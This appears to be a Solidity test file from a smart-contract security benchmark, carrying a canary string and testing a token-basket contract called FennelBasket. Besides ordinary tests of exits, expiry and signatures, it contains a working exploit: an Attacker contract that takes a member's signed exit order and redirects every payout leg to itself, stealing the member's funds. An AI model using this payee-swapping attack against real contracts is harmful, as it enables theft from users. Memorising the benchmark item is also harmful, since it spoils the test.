// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import "./FennelBasket.sol";

// assay-canary-c1a3c419-ad01-42d2-9bbe-9d21d53ba53f

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IAsset {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// Makes the basket at an address that is approved before.
contract Nursery {
    function make(Token usd, Token gold) external returns (FennelBasket basket) {
        IAsset[] memory assets = new IAsset[](2);
        uint256[] memory amounts = new uint256[](2);
        (assets[0], assets[1]) = (usd, gold);
        (amounts[0], amounts[1]) = (1_000_000e6, 100e18);
        address at = address(uint160(uint256(keccak256(abi.encodePacked(hex"d694", address(this), hex"01")))));
        usd.approve(at, amounts[0]);
        gold.approve(at, amounts[1]);
        basket = new FennelBasket(assets, amounts, 1_000_000e18);
        require(address(basket) == at, "address");
    }
}

/// A token that answers "false" where others revert, as long as its mood lasts.
contract Moody is IAsset {
    bool internal willing;

    function set(bool willing_) external {
        willing = willing_;
    }

    function transfer(address, uint256) external view returns (bool) {
        return willing;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return willing;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant KEY = 0xF0EAAE1;
    address internal constant FRIEND = address(0xF41E4D);
    uint256 internal constant START = 1_776_900_000;

    Token internal usd;
    Token internal gold;
    FennelBasket internal basket;
    Attacker internal thief;
    address internal member;

    /// Signed, sent to an executor, and seen by everyone.
    bytes internal pending;
    uint8 internal v;
    bytes32 internal r;
    bytes32 internal s;

    function setUp() public {
        vm.warp(START);
        usd = new Token();
        gold = new Token();
        member = vm.addr(KEY);
        Nursery nursery = new Nursery();
        usd.mint(address(nursery), 1_000_000e6);
        gold.mint(address(nursery), 100e18);
        basket = nursery.make(usd, gold);

        usd.mint(member, 1_500_000e6);
        gold.mint(member, 150e18);
        vm.prank(member);
        usd.approve(address(basket), type(uint256).max);
        vm.prank(member);
        gold.approve(address(basket), type(uint256).max);
        vm.prank(member);
        basket.enter(1_500_000e18);

        ExitOrders.Exit memory x = _exit(1, 1_300_000e18, member);
        (v, r, s) = vm.sign(KEY, basket.exitDigest(x));
        pending = abi.encode(x);
        thief = new Attacker(basket);
    }

    function _exit(uint256 nonce, uint256 shares, address to) internal view returns (ExitOrders.Exit memory x) {
        x.owner = member;
        x.shares = shares;
        x.tip = 1e18;
        x.nonce = nonce;
        x.deadline = START + 1 hours;
        x.legs = new ExitOrders.Leg[](2);
        x.legs[0] = ExitOrders.Leg(0, shares / 1e12, to);
        x.legs[1] = ExitOrders.Leg(1, 0, to);
    }

    function test_Regular() public {
        ExitOrders.Exit memory x = _exit(2, 100_000e18, FRIEND);
        (uint8 a, bytes32 b, bytes32 c) = vm.sign(KEY, basket.exitDigest(x));
        basket.leaveFor(x, a, b, c);
        require(usd.balanceOf(FRIEND) == 100_000e6 && gold.balanceOf(FRIEND) == 10e18, "paid");
        require(basket.sharesOf(address(this)) == 1e18, "tip");
        (bool ok, ) = address(basket).call(abi.encodeCall(FennelBasket.leaveFor, (x, a, b, c)));
        require(!ok, "twice");
        x.nonce = 3;
        (ok, ) = address(basket).call(abi.encodeCall(FennelBasket.leaveFor, (x, a, b, c)));
        require(!ok, "altered");

        basket.leave(1e18, x.legs = _cut(x.legs));
        require(usd.balanceOf(FRIEND) == 100_001e6, "own shares");
        vm.prank(member);
        basket.spend(1);
        (ok, ) = address(basket).call(
            abi.encodeCall(FennelBasket.leaveFor, (abi.decode(pending, (ExitOrders.Exit)), v, r, s))
        );
        require(!ok, "taken back");

        uint256 shares = basket.sharesOf(member);
        vm.prank(member);
        basket.moveShares(FRIEND, 1e18);
        require(basket.sharesOf(member) == shares - 1e18 && basket.sharesOf(FRIEND) >= 1e18, "moved");
    }

    function _cut(ExitOrders.Leg[] memory legs) internal pure returns (ExitOrders.Leg[] memory) {
        legs[0].least = 0;
        return legs;
    }

    function test_RefusesOrdersThatHaveRunOut() public {
        vm.warp(START + 1 hours + 1);
        vm.expectRevert(abi.encodeWithSelector(ExitOrders.Expired.selector, START + 1 hours));
        basket.leaveFor(abi.decode(pending, (ExitOrders.Exit)), v, r, s);
    }

    function test_RefusesOrdersThatNobodySigned() public {
        ExitOrders.Exit memory x;
        x.deadline = START + 1 hours;
        vm.expectRevert(ExitOrders.NotSigned.selector);
        basket.leaveFor(x, 0, 0, 0);
        x.owner = member;
        vm.expectRevert(ExitOrders.NotSigned.selector);
        basket.leaveFor(x, 0, 0, 0);
    }

    function test_RefusesLegsThatDoNotFit() public {
        ExitOrders.Leg[] memory legs = new ExitOrders.Leg[](1);
        legs[0] = ExitOrders.Leg(2, 0, member);
        _refused(legs, abi.encodeWithSelector(FennelBasket.UnknownAsset.selector, 2));
        legs[0] = ExitOrders.Leg(0, 1e6 + 1, member);
        _refused(legs, abi.encodeWithSelector(FennelBasket.LegTooSmall.selector, 0, 1e6));

        legs = new ExitOrders.Leg[](2);
        legs[0] = legs[1] = ExitOrders.Leg(1, 0, member);
        _refused(legs, abi.encodeWithSelector(FennelBasket.LegsOutOfOrder.selector));
        legs[1] = ExitOrders.Leg(0, 0, member);
        _refused(legs, abi.encodeWithSelector(FennelBasket.LegsOutOfOrder.selector));
    }

    function _refused(ExitOrders.Leg[] memory legs, bytes memory reason) internal {
        vm.prank(member);
        vm.expectRevert(reason);
        basket.leave(1e18, legs);
    }

    function test_RefusesWhatAnAssetRefuses() public {
        Moody moody = new Moody();
        IAsset[] memory assets = new IAsset[](1);
        uint256[] memory amounts = new uint256[](1);
        (assets[0], amounts[0]) = (moody, 1e18);
        bytes memory reason = abi.encodeWithSelector(FennelBasket.NotPaid.selector, 0);
        vm.expectRevert(reason);
        new FennelBasket(assets, amounts, 1e18);

        moody.set(true);
        FennelBasket other = new FennelBasket(assets, amounts, 1e18);
        moody.set(false);
        vm.expectRevert(reason);
        other.enter(1e18);
        ExitOrders.Leg[] memory legs = new ExitOrders.Leg[](1);
        legs[0].payTo = member;
        vm.expectRevert(reason);
        other.leave(1e18, legs);
    }

    function exploit() public {
        thief.run(abi.decode(pending, (ExitOrders.Exit)), v, r, s);
    }

    function test_Exploit() public {
        uint256 before = usd.balanceOf(address(thief));
        exploit();
        require(usd.balanceOf(address(thief)) >= before + 1_300_000e6, "nothing gained");
    }

    function target() public view returns (address) {
        return address(basket);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }

    function token() public view returns (address) {
        return address(usd);
    }
}

/// Executes the order of another with itself as payee.
contract Attacker {
    FennelBasket internal basket;

    constructor(FennelBasket basket_) {
        basket = basket_;
    }

    function run(ExitOrders.Exit memory x, uint8 v, bytes32 r, bytes32 s) external {
        for (uint256 i = 0; i < x.legs.length; i++) {
            x.legs[i].payTo = address(this);
        }
        basket.leaveFor(x, v, r, s);
    }
}
